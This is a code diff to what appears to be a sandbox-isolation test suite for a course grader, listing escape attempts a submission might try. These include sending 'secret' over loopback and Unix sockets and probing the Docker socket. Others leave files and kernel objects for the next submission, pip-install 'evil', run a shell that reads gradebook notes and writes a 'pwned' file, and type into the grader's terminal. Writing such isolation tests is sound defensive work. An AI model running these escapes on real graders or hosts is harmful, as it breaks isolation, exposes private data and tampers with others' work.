@@ -5,27 +5,16 @@ from __future__ import annotations
 from functools import partial
 
 from arsenal import STOCK_DANGER, STOCK_NETWORK, cell_attack
+from arsenal_escape import TRY
 
 _escape = partial(cell_attack, "escape", keeps=True, stock=STOCK_NETWORK)
 
-_TRY = """
-import os, sys, socket, ctypes, subprocess, signal, errno, stat
-libc = ctypes.CDLL(None, use_errno=True)
-def attempt(what, do, good=lambda result: True):
-    try: result = do()
-    except Exception as error: print(what, "->", type(error).__name__); return None
-    if good(result): print("PW" + "NED:", what, result)
-    else: print(what, "-> errno", ctypes.get_errno())
-    return result
-zero = lambda result: result == 0
-some = lambda result: result >= 0
-"""
 
 ATTACKS = [
     _escape(
         "tcp_connection",
         "connects to a listener on the loopback device, by IPv4, IPv6 and name",
-        _TRY
+        TRY
         + """
 for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1"):
     attempt("tcp " + host, lambda: socket.create_connection((host, @TCP@), 0.3).sendall(b"secret"))
@@ -40,7 +29,7 @@ attempt("curl", lambda: subprocess.run(["curl", "-m1", "http://127.0.0.1:@TCP@"]
     _escape(
         "udp_packet",
         "sends a packet to the loopback device, and a name look-up to a server",
-        _TRY
+        TRY
         + """
 def send():
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return s.sendto(b"secret", ("127.0.0.1", @UDP@))
@@ -55,7 +44,7 @@ attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM, 0))
     _escape(
         "unix_sockets",
         "connects to listeners on Unix sockets, by path and in the abstract namespace",
-        _TRY
+        TRY
         + """
 def connect(address):
     s = socket.socket(socket.AF_UNIX); s.settimeout(0.3); s.connect(address); s.sendall(b"secret")
@@ -66,7 +55,7 @@ for address in ("@UNIX@", "\\0@ABSTRACT@", "/run/docker.sock", "/var/run/docker.
     _escape(
         "listens_for_neighbours",
         "leaves listeners in the abstract namespace and in files for the next submission",
-        _TRY
+        TRY
         + """
 for address in ("\\0course-attack", "/tmp/course-attack.sock"):
     try:
@@ -80,7 +69,7 @@ if os.fork() == 0:
     _escape(
         "meets_the_neighbour",
         "looks for listeners and files that an earlier submission left",
-        _TRY
+        TRY
         + """
 for address in ("\\0course-attack", "/tmp/course-attack.sock"):
     attempt("neighbour's " + repr(address), lambda: socket.socket(socket.AF_UNIX).connect(address))
@@ -93,7 +82,7 @@ for folder in ("/tmp", "/dev/shm", "/var/tmp", "/scratch", "/run/lock"):
     _escape(
         "leaves_files",
         "leaves files for the next submission wherever it can write",
-        _TRY
+        TRY
         + """
 for folder in ("/tmp", "/dev/shm", "/var/tmp", "/scratch", "/run/lock", os.path.expanduser("~"), "."):
     try:
@@ -105,7 +94,7 @@ for folder in ("/tmp", "/dev/shm", "/var/tmp", "/scratch", "/run/lock", os.path.
     _escape(
         "shares_memory",
         "makes kernel objects that outlive it: shared memory, queues, semaphores, keys",
-        _TRY
+        TRY
         + """
 attempt("shmget", lambda: libc.shmget(4711, 1 << 20, 0o1666), some)
 attempt("semget", lambda: libc.semget(4711, 1, 0o1666), some)
@@ -122,7 +111,7 @@ attempt("shared_memory", posix)
     _escape(
         "starts_programs",
         "starts shells, package managers and a second Python that knows no limits",
-        _TRY
+        TRY
         + """
 attempt("pip", lambda: subprocess.run([sys.executable, "-m", "pip", "install", "--target", "@HOME@", "evil"], capture_output=True, timeout=2).returncode, zero)
 attempt("shell", lambda: subprocess.run("cat @ROOT@/gradebook_notes.txt; ls @ROOT@ && echo x > @ROOT@/pwned-shell", shell=True, capture_output=True, timeout=1).stdout.strip(), bool)
@@ -134,7 +123,7 @@ attempt("at", lambda: subprocess.run("echo id | at now", shell=True, capture_out
     _escape(
         "types_into_the_terminal",
         "types commands into the grader's terminal",
-        _TRY
+        TRY
         + """
 import fcntl, termios
 for number in range(3):
